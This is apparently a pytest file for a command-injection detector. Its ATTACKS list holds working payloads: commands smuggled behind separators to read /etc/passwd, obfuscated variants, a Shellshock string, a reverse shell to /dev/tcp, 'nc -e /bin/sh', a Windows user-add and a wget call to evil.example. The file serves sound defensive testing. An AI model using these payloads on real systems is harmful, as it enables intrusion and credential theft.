"""@detectCommand: commands behind a separator, hidden or not, and texts that only hold their names."""

from __future__ import annotations

import pytest

from extproc.detection.command import PIECE_LIMIT_BYTES, PIECES_LIMIT, SHORT_BYTES, detect
from extproc.detection.contract import Place

ATTACKS = [
    (b"; cat /etc/passwd", 7, "start", ";, cat, path"),
    (b"127.0.0.1; cat /etc/passwd", 7, "word", ";, cat, path"),
    (b"x|id", 5, "word", "|, id, end"),
    (b"$(whoami)", 7, "start", "$(, whoami, end"),
    (b"`id`", 6, "start", "back quotes, id, end"),
    (b"&& ping -c 10 127.0.0.1", 7, "start", "&, ping, option"),
    (b"|/usr/bin/id", 7, "start", "|, id, end"),
    (b";c''at /etc/hosts", 7, "start", ";, cat, path"),
    (rb";c\at /etc/hosts", 7, "start", None),
    (b";cat${IFS}/etc/passwd", 7, "start", None),
    (b";cat$IFS$9/etc/passwd", 7, "start", None),
    (b";cat</etc/passwd", 7, "start", None),
    (b";{cat,/etc/passwd}", 7, "start", None),
    (b";[c]at /etc/passwd", 7, "start", None),
    (b";w$@hoami", 7, "start", None),
    (b"&w^h^oami", 7, "start", None),
    (b"|/???/??t /etc/passwd", 7, "start", None),
    (b"a\ncat /etc/passwd", 7, "line", None),
    (b"| net user eve Pass1 /add", 7, "start", None),
    (b"; sleep 5", 6, "start", ";, sleep, number"),
    (b"() { :;}; /bin/bash -c id", 8, "whole value", "function definition, then commands"),
    (b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 6, "whole value", None),
    (b"nc -e /bin/sh 10.0.0.1 99", 6, "whole value", None),
    (b"cat /etc/passwd", 5, "whole value", None),
    (b"hello there; cat /etc/passwd", 5, "text", None),
    (b"have a nice day && wget http://evil.example/a", 5, "text", None),
    (b";cat\x0b/etc/passwd", 7, "start", None),
]


@pytest.mark.parametrize(("text", "score", "context", "reason"), ATTACKS)
def test_an_attack(text, score, context, reason):
    finding = detect(text, Place.ARGUMENT)
    assert finding is not None
    assert (finding.score, finding.context) == (score, context), finding
    assert reason is None or finding.reason == reason


LOOK_ALIKES = [
    b"Use `ls -la` to list files, or `cat file.txt` to read one",
    b"```sh\nls -l /etc\ncat /etc/passwd\n```",
    b"cat and mouse; id card; type A",
    b"fish; cat and dog",
    b"Tom & Jerry, AT&T; R&D; sleep well",
    b"echo chamber | sleep well",
    b"| id | name | type |\n|----|------|------|",
    b"a=1&id=5&sort=date",
    b"who is there; date of birth; set of cups",
    b"if (a) { b(); } else { c(); }",
    b"npm install && npm run build",
    b"f() { return 1; }",
    b"whoami",
    b"cost: $(5)",
    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    b"see /usr/bin for programs",
    b"<title>News &amp; more</title></channel>",
]


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_a_look_alike(text):
    finding = detect(text, Place.ARGUMENT)
    assert finding is None or finding.score < 5, finding


def test_so_many_pieces_are_looked_at():
    assert detect(b"a;" * 1000 + b"a;cat /etc/passwd", Place.ARGUMENT) is not None
    assert detect(b"cat;" * PIECES_LIMIT + b"cat /etc/passwd", Place.ARGUMENT) is not None
    assert detect(b"cat;" * (PIECES_LIMIT + 1) + b"cat /etc/passwd", Place.ARGUMENT) is None


def test_so_much_of_a_piece_is_read():
    assert detect(b"; " + b" " * 1000 + b"cat /etc/passwd", Place.ARGUMENT).score == 7
    assert detect(b";ls " + b"x" * (PIECE_LIMIT_BYTES - 20) + b" /etc/passwd", Place.ARGUMENT).score == 7
    assert detect(b";ls " + b"x" * PIECE_LIMIT_BYTES + b" /etc/passwd", Place.ARGUMENT) is None


def test_lines_of_a_long_text_are_no_commands():
    def behind(size: int) -> bytes:
        return b"x" * (size - 16) + b"\ncat /etc/passwd"

    assert detect(behind(SHORT_BYTES), Place.ARGUMENT).score == 7
    assert detect(behind(SHORT_BYTES + 1), Place.ARGUMENT) is None
